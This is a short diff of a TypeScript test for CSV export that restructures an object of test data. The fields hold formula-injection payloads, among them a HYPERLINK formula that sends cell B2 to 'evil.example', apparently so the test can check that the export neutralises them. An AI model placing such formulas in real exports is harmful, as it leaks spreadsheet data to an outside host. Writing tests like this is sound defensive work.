@@ -10,13 +10,14 @@ const file = z.array(z.object({ id: z.string(), type: z.string() }));
 export function exportCases(hub: () => Installation): void {
 	describe("[EV-1] an export as CSV", () => {
 		const message = {
-			...{ id: randomUUID(), state: "new", locale: "de", email: "mara@example.org" },
-			...{
-				name: '=HYPERLINK("http://evil.example/?"&B2,"Jörg")',
-				organisation: "+1+1",
-				subject: "-1+2",
-				message: "@SUM(1);=2",
-			},
+			id: randomUUID(),
+			state: "new",
+			locale: "de",
+			email: "mara@example.org",
+			name: '=HYPERLINK("http://evil.example/?"&B2,"Jörg")',
+			organisation: "+1+1",
+			subject: "-1+2",
+			message: "@SUM(1);=2",
 		};
 		const fields = "id,name,organisation,subject,message";
 		const written = new RegExp(
